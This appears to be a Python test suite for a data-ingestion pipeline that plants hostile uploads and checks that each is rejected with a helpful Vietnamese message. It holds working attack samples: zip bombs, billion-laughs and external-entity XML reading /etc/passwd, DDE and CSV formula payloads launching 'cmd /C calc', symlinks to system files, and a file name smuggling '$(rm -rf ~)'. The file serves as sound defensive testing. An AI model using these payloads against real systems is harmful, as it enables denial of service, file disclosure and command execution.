"""Hostile files: each kind is planted in a real delivery, and costs nobody but its sender anything.

One night of many senders is pulled and standardised in a process of its own, whose time and memory are limited. Every
hostile file has to be rejected with a sentence that says what is wrong and what to do, and nothing else.
"""

import io
import multiprocessing
import os
import re
import resource
import socket
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from contextlib import chdir
from copy import copy
from dataclasses import dataclass
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import duckdb
import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from par_warehouse.copying import PlaceRefused
from par_warehouse.staged import StagedPart
from par_warehouse.vault import attached_vault
from tests import moodle_screens as screens
from tests.configurations import with_feeds
from tests.fuzz.child import peak_bytes
from tests.small_world import BY_NAME as TABLE
from tests.small_world import NIGHT, clean_world, csv_text, deliver, land, settings_for, stage
from tests.spreadsheets import FORMATS, Formula, SheetOf, ods, plain_list, repacked, xls, xlsx
from tests.unit.test_xapi import EXAMPLE, json_lines, statement

SECONDS, PEAK_BYTES, ADDRESS_SPACE = 60, 900 << 20, 6 << 30
"""What the whole night may take, and what it could take at all; a clean one takes about 2 seconds and 250 MB."""

FEEDS: Mapping[str, dict[str, Any]] = {
    "nhan_su": {"dialect": "spreadsheet", "files": "nhan_su/{part}", "dates": "day_first_or_serial"},
    "danh_gia": {"files": "danh_gia/{part}"},
    "mdl_user": {
        "tables": ["mdl_user", "mdl_course", "mdl_course_completions", "mdl_course_modules",
                   "mdl_course_modules_viewed"],
        "dialect": "xapi", "files": "xapi/{part}", "options": {"mapping": EXAMPLE}, "increments": True,
    },
}  # fmt: skip
SOURCE = {"nhan_su": "hr", "danh_gia": "hr", "xapi": "elearning"}


@dataclass(frozen=True)
class Hostile:
    """A file below the folder of its feed: its bytes, or what puts something else in its place.

    ``says`` stands in the Vietnamese sentence, which tells what is wrong, and ``advises`` what to do about it.
    """

    kind: str
    path: str
    plant: Callable[[Path], object]
    says: str
    advises: str

    @property
    def name(self) -> str:
        """What the night calls the file: bytes that are no UTF-8 as escapes."""
        return self.path.encode(errors="backslashreplace").decode()


def holding(content: Callable[[], bytes]) -> Callable[[Path], object]:
    """Write a file of this content, which is made only when it is needed."""
    return lambda path: path.write_bytes(content())


def workbook(form: str = "xlsx") -> bytes:
    return FORMATS[form](plain_list())


def bomb(part: str, size: int, content: bytes = b"\0") -> bytes:
    """A workbook with a part that is ``size`` bytes when it is unpacked."""
    target = io.BytesIO(workbook())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(part, "w") as stream:
        stream.write(b"<a>")
        for _ in range(0, size, 1 << 20):
            stream.write(content * ((1 << 20) // len(content)))
    return target.getvalue()


def understated() -> bytes:
    """A bomb that states to unpack to 100 bytes."""
    content = bomb("xl/media/a.png", 64 << 20)
    stated = (len(b"<a>") + (64 << 20)).to_bytes(4, "little")
    assert content.count(stated) == 2  # before the part and in the directory
    return content.replace(stated, (100).to_bytes(4, "little"))


def nested() -> bytes:
    """An archive of archives of a bomb."""
    content = zlib.compress(bytes(16 << 20), 9)
    for _ in range(5):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(16):
                archive.writestr(f"{number}.zip", content)
        content = target.getvalue()
    return content


def overlapping() -> bytes:
    """Many entries of the directory that all mean the same bytes."""
    target = io.BytesIO(workbook())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/a.xml", bytes(1 << 19))
        whole = archive.infolist()[-1]
        for number in range(1_000):
            again = copy(whole)
            again.filename = f"xl/media/{number}.xml"
            archive.filelist.append(again)
    return target.getvalue()


def many_entries() -> bytes:
    return repacked(workbook(), {}, **{f"xl__media__{number}__xml": b"<a/>" for number in range(2_500)})


def declared(form: str, part: str, dtd: str, use: str) -> bytes:
    """A workbook whose part declares and uses an entity."""

    def declaring(text: str) -> str:
        start = text.index("?>") + 2 if text.startswith("<?") else 0
        return text[:start] + dtd + text[start:].replace("Hoà", use).replace("HOÀ", use)

    return repacked(workbook(form), {part: declaring})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHTER = f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
SHEET, TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def with_rows(rows: str) -> bytes:
    return repacked(workbook(), {SHEET: lambda text: text.replace("</sheetData>", rows + "</sheetData>")})


def with_ods(before: str, added: str) -> bytes:
    return repacked(workbook("ods"), {"content.xml": lambda text: text.replace(before, added + before, 1)})


def with_formulas() -> bytes:
    sheet = plain_list()
    sheet.rows[1][0] = Formula('HYPERLINK("http://a.invalid/"&C2,"013185000123")')
    return xlsx(sheet)


def with_dde_xls() -> bytes:
    two = xls(plain_list(), SheetOf([[Formula("'Trang 1'!A1")]]))
    own = b"\xae\x01\x04\x00\x02\x00\x01\x04"
    assert own in two
    return two.replace(own, b"\xae\x01\x04\x00\x02\x00\x05\x00")


def locked_xlsx() -> bytes:
    target = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook())).encrypt("bí mật", target)
    return target.getvalue()


def locked_ods() -> bytes:
    entry = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    end = "</manifest:manifest>"
    manifest = {"META-INF/manifest.xml": lambda text: text.replace(end, entry + end)}
    return repacked(workbook("ods"), {**manifest, "content.xml": lambda _: "\x01\x02"})


def locked_xls() -> bytes:
    return workbook("xls").replace(b"\x42\x00\x02\x00", b"\x2f\x00\x02\x00", 1)  # CODEPAGE becomes FILEPASS


def one_text_everywhere() -> bytes:
    """One long text that the cells only refer to."""
    rows = "".join(f'<row r="{row}">' + '<c t="s"><v>0</v></c>' * 20 + "</row>" for row in range(10, 600))
    return repacked(with_rows(rows), {TEXTS: lambda text: text.replace("<t>", f"<t>{'a' * 32_000}", 1)})


RATING = {"so_dinh_danh": "013085000001", "nam": "2023", "muc_xep_loai": "HTTNV", "ngay_quyet_dinh": "2023-12-20"}
RATINGS = csv_text(TABLE["danh_gia"], [RATING] * 5).encode()
HEADER, ROW = RATINGS.splitlines(keepends=True)[:2]
WIDE = b",".join([HEADER.strip(), *(b"c%d" % number for number in range(1_000_000))])


def link_out(path: Path) -> None:
    outside = path.parents[4] / "outside.csv"
    outside.write_bytes(RATINGS)
    path.symlink_to(outside)


def socket_at(path: Path) -> None:
    # From within its folder, because the address of a socket is short.
    with chdir(path.parent), socket.socket(socket.AF_UNIX) as server:
        server.bind(path.name)


def endless_file(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


CONVERT = "chọn File > Save As > Excel Workbook (.xlsx) rồi gửi lại"
COPY = "Chép riêng danh sách sang tệp mới rồi gửi lại"
SAVE = "lưu lại thành CSV UTF-8"
RENAME = "Hãy đổi tên tệp"
SWELLS = "khi giải nén quá lớn"

HOSTILE = (
    # Archives that swell
    Hostile("zip bomb", "nhan_su/a.xlsx", holding(lambda: bomb("xl/media/a.png", 64 << 20)), SWELLS, COPY),
    Hostile("zip bomb in a sheet", "nhan_su/b.xlsx",
            holding(lambda: bomb("xl/worksheets/sheet2.xml", 64 << 20, b"<c/>")),
            SWELLS, COPY),
    Hostile("zip bomb that understates", "nhan_su/c.xlsx", holding(understated), SWELLS, COPY),
    Hostile("zip bomb nested", "nhan_su/d.xlsx", holding(nested), "thực ra là tệp nén (.zip)", CONVERT),
    Hostile("zip bomb overlapping", "nhan_su/e.xlsx", holding(overlapping),
            "bị hỏng", "lưu lại (Save As) thành tệp mới"),
    Hostile("zip of many entries", "nhan_su/f.xlsx", holding(many_entries), "quá nhiều thành phần", COPY),
    Hostile("one text in every cell", "nhan_su/g.xlsx", holding(one_text_everywhere),
            "quá nhiều chữ", "chép riêng danh sách"),
    # What computes or comes from elsewhere
    Hostile("formulas", "nhan_su/h.xlsx", holding(with_formulas),
            "cột A, dòng 2: có công thức", "Paste Special > Values"),
    Hostile("external link", "nhan_su/i.xlsx",
            holding(lambda: repacked(workbook(), {}, xl__externalLinks__externalLink1__xml=b"<a/>")),
            "có liên kết đến tệp", "chọn Break Link"),
    Hostile("link in ods", "nhan_su/j.ods",
            holding(lambda: with_ods("<table:table-row>", '<table:table-source xlink:href="file:///etc/passwd"'
                ' xmlns:xlink="http://www.w3.org/1999/xlink"/>')),
            "có liên kết đến tệp", "chọn Break Link"),
    Hostile("DDE in ods", "nhan_su/k.ods",
            holding(lambda: with_ods("<table:table ", '<table:dde-links><table:dde-link><office:dde-source'
                ' office:dde-application="cmd" office:dde-topic="/C calc" office:dde-item="a"/>'
                "</table:dde-link></table:dde-links>")),
            "có liên kết đến tệp hoặc chương trình khác", "chọn Break Link"),
    Hostile("DDE in xls", "nhan_su/l.xls", holding(with_dde_xls),
            "có liên kết đến tệp hoặc chương trình", "chọn Break Link"),
    Hostile("macros", "nhan_su/m.xlsx", holding(lambda: repacked(workbook(), {}, xl__vbaProject__bin=b"x")),
            "chứa macro", "Lưu lại thành Excel Workbook (.xlsx), không có macro"),
    Hostile("billion laughs in xlsx", "nhan_su/n.xlsx", holding(lambda: declared("xlsx", TEXTS, LAUGHTER, "&l9;")),
            "DTD hoặc thực thể", "Tạo lại tệp bằng Excel"),
    Hostile("billion laughs in ods", "nhan_su/o.ods", holding(lambda: declared("ods", "content.xml", LAUGHTER, "&l9;")),
            "DTD hoặc thực thể", "Tạo lại tệp bằng Excel"),
    Hostile("external entity in xlsx", "nhan_su/p.xlsx", holding(lambda: declared("xlsx", SHEET, OUTSIDE, "&b;")),
            "DTD hoặc thực thể", "Tạo lại tệp bằng Excel"),
    Hostile("external entity in ods", "nhan_su/q.ods", holding(lambda: declared("ods", "content.xml", OUTSIDE, "&b;")),
            "DTD hoặc thực thể", "Tạo lại tệp bằng Excel"),
    # Beyond every size
    Hostile("million rows in xlsx", "nhan_su/r.xlsx",
            holding(lambda: with_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
            "hơn 200,000 dòng", "Xóa các dòng"),
    Hostile("billion columns in ods", "nhan_su/s.ods",
            holding(lambda: with_ods("</table:table>", "<table:table-row><table:table-cell office:value-type='string'"
                " table:number-columns-repeated='1000000000'><text:p>a</text:p></table:table-cell>"
                "</table:table-row>")),
            "hơn 500 cột", "Xóa các dòng và cột thừa"),
    Hostile("too many sheets", "nhan_su/t.ods", holding(lambda: ods(*[SheetOf([["a"]])] * 101)),
            "101 trang tính", "Chỉ gửi các trang danh sách"),
    Hostile("endless line", "danh_gia/a.csv", holding(lambda: HEADER + b"x" * (20 << 20)),
            "một dòng dài hơn 16 MB", "có thể thiếu dấu ngoặc kép đóng"),
    Hostile("quote that is never closed", "danh_gia/b.csv", holding(lambda: HEADER + b'"' + b"x\n" * (10 << 20)),
            "một dòng dài hơn 16 MB", "có thể thiếu dấu ngoặc kép đóng"),
    Hostile("million columns in the header", "danh_gia/c.csv", holding(lambda: WIDE),
            "nhiều hơn mức cho phép là 2000", "hãy xóa các cột thừa rồi gửi lại"),
    Hostile("endless line of JSON", "xapi/a.jsonl", holding(lambda: b'{"id": "' + b"x" * (20 << 20) + b'"}'),
            "có một dòng dài hơn 16 MB", "hãy xuất lại theo dạng JSON Lines"),
    Hostile("endless depth of JSON", "xapi/b.jsonl", holding(lambda: b'{"id": ' + b"[" * 1_000_000),
            "dòng 1 không phải là một đối tượng", "hãy xuất lại từ hệ thống và gửi lại cả tệp"),
    Hostile("endless page", "xapi/c.json", holding(lambda: b'{"statements": [' + b'"x",' * (20 << 20)),
            "lớn hơn 64 MB", "hãy giảm số bản ghi mỗi trang"),
    Hostile("file of a terabyte", "danh_gia/d.csv", endless_file, "Tệp lớn hơn", "gửi lại"),
    # Other content than the name says
    Hostile("PDF named xlsx", "nhan_su/u.xlsx", holding(lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
            "thực ra là tệp PDF", CONVERT),
    Hostile("image named xlsx", "nhan_su/v.xlsx", holding(lambda: b"\x89PNG\r\n\x1a\n\0\0"),
            "thực ra là tệp ảnh", CONVERT),
    Hostile("web page named xls", "nhan_su/w.xls", holding(lambda: b"<html><table><tr><td>STT"),
            "thực ra là trang web HTML", CONVERT),
    Hostile("csv named xlsx", "nhan_su/x.xlsx", holding(lambda: RATINGS), "thực ra là tệp văn bản (CSV)", CONVERT),
    Hostile("xls named xlsx", "nhan_su/y.xlsx", holding(lambda: workbook("xls")),
            "đuôi tên tệp ghi khác", "đổi đuôi tên thành .xls"),
    Hostile("program named xlsx", "nhan_su/z.xlsx", holding(lambda: b"\x7fELF\x02\x01\x01\0"),
            "không nhận ra được", CONVERT),
    Hostile("xlsx named csv", "danh_gia/e.csv", holding(workbook),
            "thực ra là sổ tính Excel", "lưu thành CSV UTF-8 rồi gửi lại"),
    Hostile("PDF named csv", "danh_gia/f.csv", holding(lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
            "không đọc được theo mã đó", SAVE),
    Hostile("web page named csv", "danh_gia/g.csv", holding(lambda: b"<html>\n<body>a</body></html>\n"),
            "thiếu cột", "so_dinh_danh"),
    Hostile("UTF-16 named csv", "danh_gia/h.csv", holding(lambda: RATINGS.decode().encode("utf-16")),
            "có vẻ là UTF-16", SAVE),
    Hostile("NUL bytes", "danh_gia/i.csv", holding(lambda: RATINGS + b"\0"), "có byte NUL", SAVE),
    Hostile("csv named jsonl", "xapi/d.jsonl", holding(lambda: RATINGS),
            "không phải là một đối tượng JSON", "xuất lại từ hệ thống"),
    # Passwords, and nothing at all
    Hostile("password in xlsx", "nhan_su/aa.xlsx", holding(locked_xlsx), "có mật khẩu", "Bỏ mật khẩu"),
    Hostile("password in xls", "nhan_su/ab.xls", holding(locked_xls), "có mật khẩu", "Bỏ mật khẩu"),
    Hostile("password in ods", "nhan_su/ac.ods", holding(locked_ods), "có mật khẩu", "Bỏ mật khẩu"),
    Hostile("empty workbook", "nhan_su/ad.xlsx", holding(lambda: b""), "Tệp rỗng", "Gửi lại tệp"),
    Hostile("empty csv", "danh_gia/j.csv", holding(lambda: b""), "tệp rỗng", "dòng tiêu đề"),
    Hostile("header alone", "danh_gia/k.csv", holding(lambda: HEADER), "tệp không có dòng dữ liệu nào", ""),
    Hostile("header alone in a workbook", "nhan_su/ae.xlsx", holding(lambda: xlsx(plain_list(()))),
            "tệp không có dòng dữ liệu nào", ""),
    # What is no file
    Hostile("directory", "danh_gia/l.csv", Path.mkdir, "Đây là thư mục", "Hãy gửi tệp mang tên này"),
    Hostile("link to outside", "danh_gia/m.csv", link_out, "Đây là liên kết (symlink)", "Hãy đặt chính tệp đó"),
    Hostile("link to the system", "danh_gia/n.csv", lambda path: path.symlink_to("/etc/passwd"),
            "liên kết", "chính tệp đó"),
    Hostile("link to itself", "danh_gia/o.csv", lambda path: path.symlink_to(path), "liên kết", "Hãy đặt chính tệp đó"),
    Hostile("link to an endless device", "danh_gia/p.csv", lambda path: path.symlink_to("/dev/zero"),
            "liên kết", "chính tệp đó"),
    Hostile("pipe", "danh_gia/q.csv", os.mkfifo, "không phải là tệp thông thường", "Hãy gửi tệp thông thường"),
    Hostile("socket", "danh_gia/r.csv", socket_at, "không phải là tệp thông thường", "Hãy gửi tệp thông thường"),
    # Names
    Hostile("name with a line break", "danh_gia/s\n.csv", holding(lambda: RATINGS),
            "Tên có ký tự không dùng được", RENAME),
    Hostile("name that colours a terminal", "danh_gia/\x1b[31mt.csv", holding(lambda: RATINGS),
            "Tên có ký tự không", RENAME),
    Hostile("name written from the right", "danh_gia/u\u202evsc.exe", holding(lambda: RATINGS),
            "Tên có ký tự không", RENAME),
    Hostile("name that is no UTF-8", "danh_gia/caf\udce9.csv", holding(lambda: RATINGS), "không phải UTF-8", RENAME),
    Hostile("name of 250 bytes", f"danh_gia/{'x' * 246}.csv", holding(lambda: RATINGS),
            "Tên dài quá 200 byte", "đặt tên ngắn hơn"),
    Hostile("name that is a number of a person", "danh_gia/013085000001.csv", holding(lambda: b""),
            "tệp rỗng", "dòng tiêu đề"),
    Hostile("name that is a command", "danh_gia/$(rm -rf ~);'--.csv", holding(lambda: b""), "tệp rỗng", "dòng tiêu đề"),
)  # fmt: skip
HONEST = {
    "nhan_su/ok.xlsx": (workbook, 3),
    "danh_gia/ok.csv": (lambda: RATINGS, 5),
    # Strange, but not wrong: cells that spreadsheets would compute are text, a row that is too long is set aside.
    "danh_gia/ok cells.csv": (lambda: HEADER + ROW.replace(b"HTTNV", b"\"=cmd|' /C calc'!A0\""), 1),
    "danh_gia/ok row.csv": (lambda: HEADER + ROW + b"," * 1_000_000 + b"\n", 2),
    "xapi/ok.jsonl": (lambda: json_lines([statement(1)]), 1),
}
KINDS = [one.kind for one in HOSTILE]


@dataclass(frozen=True)
class Night:
    """What became of the parts of all files, by name, and what the night cost."""

    parts: Mapping[str, StagedPart]
    rows: Mapping[str, int]
    seconds: float
    peak_bytes: int


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    """The night of all hostile files."""
    base = tmp_path_factory.mktemp("hostile")
    deliver(base, clean_world(), replace={"nhan_su": None, "danh_gia": None})
    honest = {name: holding(content) for name, (content, _) in HONEST.items()}
    for name, plant in ({one.path: one.plant for one in HOSTILE} | honest).items():
        path = base / SOURCE[name.partition("/")[0]] / NIGHT.isoformat() / name
        path.parent.mkdir(exist_ok=True)
        plant(path)
    context = multiprocessing.get_context("spawn")
    answers, answer = context.Pipe(duplex=False)
    child = context.Process(target=_spend, args=(base, answer))
    child.start()
    answer.close()
    spent: Night = answers.recv()
    child.join()
    return spent


def _spend(base: Path, answer: Connection) -> None:
    """In a process of its own: pull and standardise."""
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
    os.environ["PAR_PERSON_KEY_SECRET"] = "a secret of the tests"
    start = time.monotonic()
    settings = with_feeds(settings_for(base), **FEEDS)
    staged = stage(settings, "hr") | stage(settings, "elearning")
    folders = {"nhan_su": "nhan_su", "danh_gia": "danh_gia", "mdl_course_completions": "xapi"}
    answer.send(
        Night(
            parts={f"{folder}/{part.part}": part for table, folder in folders.items() for part in staged[table].parts},
            rows={table: file.rows_read for table, file in staged.items()},
            seconds=time.monotonic() - start,
            peak_bytes=peak_bytes(),
        )
    )


@pytest.mark.parametrize("hostile", HOSTILE, ids=KINDS)
def test_a_hostile_file_is_rejected_with_a_sentence_that_helps(night: Night, hostile: Hostile) -> None:
    part = night.parts[hostile.name]
    assert (part.state, part.rows, part.served_from) == ("rejected", 0, None)
    vi, _, en = (part.problem or "").partition(" | ")
    assert hostile.says in vi and hostile.advises in vi
    assert len(en) > 10 and en.isascii()
    assert (vi + part.file_name).isprintable() and not re.search(r"\d{9}", vi + en + part.file_name)


def test_the_other_files_of_the_night_are_read(night: Night) -> None:
    assert {name: (night.parts[name].state, night.parts[name].rows) for name in HONEST} == {
        name: ("read", rows) for name, (_, rows) in HONEST.items()
    }
    assert set(night.parts) == set(HONEST) | {one.name for one in HOSTILE}
    world = {name: len(rows) for name, rows in clean_world().items() if not name.startswith("mdl_")}
    assert {name: night.rows[name] for name in world} == world | {"nhan_su": 3, "danh_gia": 8}


def test_the_night_keeps_to_its_time_and_memory(night: Night) -> None:
    assert night.seconds < SECONDS
    assert night.peak_bytes < PEAK_BYTES


def test_a_folder_of_endlessly_many_files_is_refused_and_the_other_source_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PAR_PERSON_KEY_SECRET", "a secret of the tests")
    settings = settings_for(tmp_path)
    deliver(tmp_path, clean_world())
    for number in range(10_001):
        (tmp_path / "hr" / NIGHT.isoformat() / f"{number}.csv").touch()
    with pytest.raises(PlaceRefused, match=r"more than 10,000 files and folders.*clean up"):
        land(settings, "hr")
    assert len(stage(settings, "elearning")) == 7


def test_what_was_read_of_a_file_before_its_fault_is_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The accounts of this export are read before a state in it turns out to be unknown."""
    monkeypatch.setenv("PAR_PERSON_KEY_SECRET", "a secret of the tests")
    tables = ["mdl_user", "mdl_course", "mdl_course_modules", "mdl_course_modules_viewed"]
    options = {"course": {"id": 12, "code": "K1"}, "materials": {"Bài 1": {"module": 105, "code": "TL-01"}}}
    feed = {"tables": tables, "dialect": "moodle_activity_completion", "files": "hoat_dong.csv", "options": options}
    settings = with_feeds(settings_for(tmp_path), mdl_user=feed)
    deliver(tmp_path, clean_world())
    export = screens.activity_completion(["ID number"], [("Bài 1", "")], ["A", "013085999999", "Đã xoá", ""])
    (tmp_path / "elearning" / NIGHT.isoformat() / "hoat_dong.csv").write_bytes(export)
    staged = stage(settings, "elearning")
    for table in tables:
        assert [part.state for part in staged[table].parts] == ["rejected"]
        assert not Path(staged[table].path).exists()
    assert "không rõ trạng thái hoàn thành" in (staged["mdl_user"].problem or "")
    with duckdb.connect() as con, attached_vault(settings, con, "test") as vault:
        assert con.execute(f"select count(*) from {vault}.person").fetchone() == (0,)
